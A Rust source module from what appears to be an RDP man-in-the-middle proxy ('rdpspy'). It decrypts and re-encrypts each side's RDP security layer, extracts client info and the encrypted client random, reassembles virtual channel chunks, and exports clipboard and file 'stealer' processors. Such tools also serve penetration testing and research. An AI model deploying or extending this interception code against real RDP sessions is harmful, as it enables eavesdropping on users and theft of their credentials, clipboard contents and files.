//! Per-channel processing: the channel-level security layer, virtual-channel
//! chunk reassembly, and the processors for the channels the proxy
//! understands.

pub mod clipboard;
pub mod rdpdr;

pub use clipboard::ClipboardStealer;
pub use rdpdr::FileStealer;

use rdpspy_pdu::cursor::ReadCursor;
use rdpspy_pdu::rdp::headers::{BasicSecurityHeader, BasicSecurityHeaderFlags};
use rdpspy_pdu::rdp::SecurityExchangePdu;
use rdpspy_pdu::vc::{ChannelControlFlags, ChannelPduHeader};
use rdpspy_pdu::encode_vec;

use crate::secure::SideShared;
use crate::{SessionError, SessionResult};

/// Negotiated virtual channel chunk size (CHANNEL_CHUNK_LENGTH).
const CHANNEL_CHUNK_LENGTH: usize = 1600;

/// What a channel is built as, decided by its announced name.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ChannelKind {
    /// The global I/O channel: slow-path PDUs.
    Io,
    Clipboard,
    DeviceRedirection,
    /// Any other static channel: bridged verbatim through the security
    /// translation.
    Raw,
}

impl ChannelKind {
    pub fn from_channel_name(name: &str) -> Self {
        match name {
            "I/O" => ChannelKind::Io,
            "cliprdr" => ChannelKind::Clipboard,
            "rdpdr" => ChannelKind::DeviceRedirection,
            _ => ChannelKind::Raw,
        }
    }
}

/// What the channel security layer found inside one MCS send-data payload.
#[derive(Debug)]
pub enum SecurityEvent {
    /// TS_SECURITY_PACKET: the peer's encrypted client random.
    SecurityExchange(Vec<u8>),
    /// Plaintext Client Info PDU bytes.
    ClientInfo(Vec<u8>),
    /// Plaintext licensing payload, forwarded opaquely.
    LicensingData(Vec<u8>),
    /// Plaintext channel payload (slow-path or virtual-channel chunk).
    Data(Vec<u8>),
}

/// Strips (and verifies) the per-PDU security envelope of one side.
pub fn security_unwrap(shared: &mut SideShared, data: &[u8]) -> SessionResult<SecurityEvent> {
    let native = shared.security.is_native();

    if !native && !shared.security.security_header_expected {
        return Ok(SecurityEvent::Data(data.to_vec()));
    }

    let mut src = ReadCursor::new(data);
    let header: BasicSecurityHeader = rdpspy_pdu::decode_cursor(&mut src)?;

    if header.flags.contains(BasicSecurityHeaderFlags::EXCHANGE_PKT) {
        let exchange: SecurityExchangePdu = rdpspy_pdu::decode_cursor(&mut src)?;
        return Ok(SecurityEvent::SecurityExchange(exchange.encrypted_client_random));
    }

    let payload = src.read_remaining();

    let plaintext = if header.flags.contains(BasicSecurityHeaderFlags::ENCRYPT) {
        if !native {
            return Err(SessionError::Protocol("encrypted PDU without negotiated encryption"));
        }
        if payload.len() < 8 {
            return Err(SessionError::Protocol("encrypted PDU without a MAC"));
        }

        let (mac, ciphertext) = payload.split_at(8);
        shared.security.crypter().get()?.decrypt(ciphertext, mac)?
    } else {
        payload.to_vec()
    };

    if header.flags.contains(BasicSecurityHeaderFlags::INFO_PKT) {
        Ok(SecurityEvent::ClientInfo(plaintext))
    } else if header.flags.contains(BasicSecurityHeaderFlags::LICENSE_PKT) {
        Ok(SecurityEvent::LicensingData(plaintext))
    } else {
        Ok(SecurityEvent::Data(plaintext))
    }
}

/// Wraps a payload with the security envelope this side's peer expects.
///
/// `extra_flags` carries the PDU-kind flag (INFO_PKT, LICENSE_PKT, …).
pub fn security_wrap(
    shared: &mut SideShared,
    extra_flags: BasicSecurityHeaderFlags,
    payload: &[u8],
) -> SessionResult<Vec<u8>> {
    if shared.security.is_native() {
        let (ciphertext, mac) = shared.security.crypter().get()?.encrypt(payload);

        let header = BasicSecurityHeader {
            flags: extra_flags | BasicSecurityHeaderFlags::ENCRYPT,
        };

        let mut out = encode_vec(&header)?;
        out.extend_from_slice(&mac);
        out.extend_from_slice(&ciphertext);
        return Ok(out);
    }

    if !extra_flags.is_empty() || shared.security.security_header_expected {
        let header = BasicSecurityHeader { flags: extra_flags };

        let mut out = encode_vec(&header)?;
        out.extend_from_slice(payload);
        return Ok(out);
    }

    Ok(payload.to_vec())
}

/// Builds the plain security-exchange envelope (never encrypted).
pub fn security_exchange_wrap(encrypted_client_random: Vec<u8>) -> SessionResult<Vec<u8>> {
    let header = BasicSecurityHeader {
        flags: BasicSecurityHeaderFlags::EXCHANGE_PKT,
    };
    let exchange = SecurityExchangePdu {
        encrypted_client_random,
    };

    let mut out = encode_vec(&header)?;
    out.extend_from_slice(&encode_vec(&exchange)?);

    Ok(out)
}

/// Reassembles chunked virtual channel messages (MS-RDPBCGR 3.1.5.2.2).
#[derive(Debug, Default)]
pub struct ChunkReassembly {
    pending: Vec<u8>,
    announced_length: usize,
}

impl ChunkReassembly {
    pub fn new() -> Self {
        Self::default()
    }

    /// Consumes one virtual channel PDU; returns the complete message once
    /// the last chunk arrived.
    pub fn process(&mut self, data: &[u8]) -> SessionResult<Option<Vec<u8>>> {
        let mut src = ReadCursor::new(data);
        let header: ChannelPduHeader = rdpspy_pdu::decode_cursor(&mut src)?;

        if header.flags.contains(ChannelControlFlags::FLAG_FIRST) {
            self.pending.clear();
            self.announced_length = header.length as usize;
        }

        self.pending.extend_from_slice(src.read_remaining());

        if self.pending.len() > self.announced_length {
            return Err(SessionError::Protocol("virtual channel data exceeds announced length"));
        }

        if header.flags.contains(ChannelControlFlags::FLAG_LAST) {
            let message = core::mem::take(&mut self.pending);
            self.announced_length = 0;
            return Ok(Some(message));
        }

        Ok(None)
    }
}

/// Splits a complete virtual channel message back into framed chunks.
pub fn chunk_message(message: &[u8], show_protocol: bool) -> SessionResult<Vec<Vec<u8>>> {
    let base_flags = if show_protocol {
        ChannelControlFlags::FLAG_SHOW_PROTOCOL
    } else {
        ChannelControlFlags::empty()
    };

    let chunk_count = message.len().div_ceil(CHANNEL_CHUNK_LENGTH).max(1);
    let mut chunks = Vec::with_capacity(chunk_count);

    let mut pieces: Vec<&[u8]> = message.chunks(CHANNEL_CHUNK_LENGTH).collect();
    if pieces.is_empty() {
        pieces.push(&[]);
    }

    for (index, chunk) in pieces.into_iter().enumerate() {
        let mut flags = base_flags;
        if index == 0 {
            flags |= ChannelControlFlags::FLAG_FIRST;
        }
        if index == chunk_count - 1 {
            flags |= ChannelControlFlags::FLAG_LAST;
        }

        let header = ChannelPduHeader {
            length: u32::try_from(message.len()).map_err(|_| SessionError::Protocol("channel message too large"))?,
            flags,
        };

        let mut out = encode_vec(&header)?;
        out.extend_from_slice(chunk);
        chunks.push(out);
    }

    Ok(chunks)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn channel_kinds_follow_announced_names() {
        assert_eq!(ChannelKind::from_channel_name("I/O"), ChannelKind::Io);
        assert_eq!(ChannelKind::from_channel_name("cliprdr"), ChannelKind::Clipboard);
        assert_eq!(ChannelKind::from_channel_name("rdpdr"), ChannelKind::DeviceRedirection);
        assert_eq!(ChannelKind::from_channel_name("rdpsnd"), ChannelKind::Raw);
    }

    #[test]
    fn chunked_messages_reassemble() {
        let message = vec![0xABu8; CHANNEL_CHUNK_LENGTH * 2 + 10];
        let chunks = chunk_message(&message, false).unwrap();
        assert_eq!(chunks.len(), 3);

        let mut reassembly = ChunkReassembly::new();

        assert!(reassembly.process(&chunks[0]).unwrap().is_none());
        assert!(reassembly.process(&chunks[1]).unwrap().is_none());

        let complete = reassembly.process(&chunks[2]).unwrap().unwrap();
        assert_eq!(complete, message);
    }

    #[test]
    fn single_chunk_message_has_both_flags() {
        let chunks = chunk_message(b"tiny", true).unwrap();
        assert_eq!(chunks.len(), 1);

        let mut src = ReadCursor::new(&chunks[0]);
        let header: ChannelPduHeader = rdpspy_pdu::decode_cursor(&mut src).unwrap();

        assert!(header.flags.contains(ChannelControlFlags::FLAG_FIRST));
        assert!(header.flags.contains(ChannelControlFlags::FLAG_LAST));
        assert!(header.flags.contains(ChannelControlFlags::FLAG_SHOW_PROTOCOL));
    }

    #[test]
    fn oversized_chunk_payload_is_rejected() {
        let mut reassembly = ChunkReassembly::new();

        let header = ChannelPduHeader {
            length: 2,
            flags: ChannelControlFlags::FLAG_FIRST,
        };
        let mut pdu = encode_vec(&header).unwrap();
        pdu.extend_from_slice(&[0u8; 8]);

        assert!(reassembly.process(&pdu).is_err());
    }
}
